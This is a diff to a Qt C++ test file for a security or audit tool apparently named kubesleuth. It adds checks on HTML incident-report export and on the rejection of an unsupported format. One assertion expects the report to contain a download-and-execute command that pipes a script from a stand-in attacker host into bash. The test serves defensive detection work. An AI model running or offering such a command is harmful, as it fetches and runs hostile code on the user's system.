@@ -119,6 +119,22 @@ private Q_SLOTS:
         auto verify = run({QStringLiteral("audit"), QStringLiteral("verify")});
         QCOMPARE(verify.exit, 0);
         QVERIFY(verify.out.startsWith("intact: "));
+
+        // The incident report of the same run, headless.
+        const QString reportPath = m_dir.filePath(QStringLiteral("report.html"));
+        auto report = run({QStringLiteral("export"), runId.left(8), QStringLiteral("--format"), QStringLiteral("html"),
+                           QStringLiteral("--output"), reportPath});
+        QCOMPARE(report.exit, 0);
+        QFile page(reportPath);
+        QVERIFY(page.open(QIODevice::ReadOnly));
+        const QByteArray html = page.readAll();
+        QVERIFY(html.contains("Incident report: kubesleuth"));
+        QVERIFY(html.contains("download_execute"));
+        QVERIFY(html.contains("intact: "));
+        QVERIFY(html.contains("curl -s http://evil-domain.com/implant.sh | bash"));
+        auto badFormat = run({QStringLiteral("export"), runId.left(8), QStringLiteral("--format"), QStringLiteral("pdf")});
+        QCOMPARE(badFormat.exit, 2);
+        QVERIFY(badFormat.err.contains("supported: jsonl, html"));
     }
 
     void helpAndVersion()
